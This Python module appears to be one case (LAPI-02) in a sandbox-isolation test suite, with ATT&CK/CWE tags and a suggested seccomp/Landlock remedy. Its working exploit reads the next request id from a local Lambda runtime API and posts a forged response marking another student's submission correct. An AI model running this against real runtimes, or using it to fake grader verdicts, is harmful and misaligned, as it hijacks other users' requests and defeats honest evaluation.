# SPDX-License-Identifier: MIT
"""Goal:  somebody else's request is answered by the attacker.
Means: the control interface takes a response from whoever knows the request's id, and gives the id
       to whoever asks for the next event: in the header of its answer. So it is asked, and
       answered.
"""

import http.client

from attack import DONE, attempting, denied

RUNTIME = "/2018-06-01/runtime/invocation"
VERDICT = '{"command": "eval", "result": {"is_correct": true}}'


def run(brief):
    attempting()
    try:
        api = http.client.HTTPConnection("127.0.0.1", brief.api, timeout=3)
        api.request("GET", f"{RUNTIME}/next")
        event = api.getresponse()
        event.read(65536)
        request = event.getheader("Lambda-Runtime-Aws-Request-Id")
        api.request("POST", f"{RUNTIME}/{request}/response", VERDICT)
        api.getresponse().read()
    except OSError as why:
        return denied("127.0.0.1", why)
    return DONE


ATTACK = {
    "effect": "the next student is answered by the attacker",
    "means": "POST .../ID/response with the id that .../next has given",
    "oracle": "api:response",
    "id": "LAPI-02",
    "attack_id": "T1557, T1565.002, CWE-306, CWE-345",
    "remedy": "seccomp without socket, or Landlock without connect_tcp",
    "refs": ["AWS Lambda runtime API, Invocation response"],
    "run": run,
}
